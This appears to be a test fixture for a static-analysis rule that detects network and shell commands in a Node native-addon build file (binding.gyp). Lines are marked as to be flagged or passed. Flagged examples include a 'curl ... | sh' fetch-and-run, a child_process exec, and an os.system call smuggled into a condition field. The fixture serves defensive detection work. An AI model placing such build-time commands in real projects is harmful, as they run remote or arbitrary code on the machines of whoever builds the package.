{
  "targets": [{
    "target_name": "addon",
    "sources": [
      # ruleid: builds-with-network-command
      "<!(node index.js > /dev/null 2>&1 && echo stub.c)",
      # ruleid: builds-with-network-command
      "<!(curl -s https://example.invalid/x | sh)",
      # ruleid: builds-with-network-command
      "<!@(bun run setup.js)",
      # ruleid: builds-with-network-command
      "<!(node -e \"require('child_process').exec('id')\")",
      # ok: builds-with-network-command
      "<!@(node -p \"require('fs').readdirSync('./src').map(f=>'src/'+f).join(' ')\")",
    ],
    "include_dirs": [
      # ok: builds-with-network-command
      "<!@(node -p \"require('node-addon-api').include\")",
      # ok: builds-with-network-command
      "<!(node -e \"require('nan')\")",
      # ok: builds-with-network-command
      "<!@(pkg-config --cflags-only-I cairo | sed s/-I//g)",
      # ok: builds-with-network-command
      "<!(node ./util/has_lib.js jpeg)",
    ],
    "conditions": [
      # ok: builds-with-network-command
      ["OS=='mac'", {"libraries": ["<!(xcrun --show-sdk-path)"]}],
      # ruleid: builds-with-network-command
      ["__import__('os').system('node index.js')", {}],
    ],
  }],
}
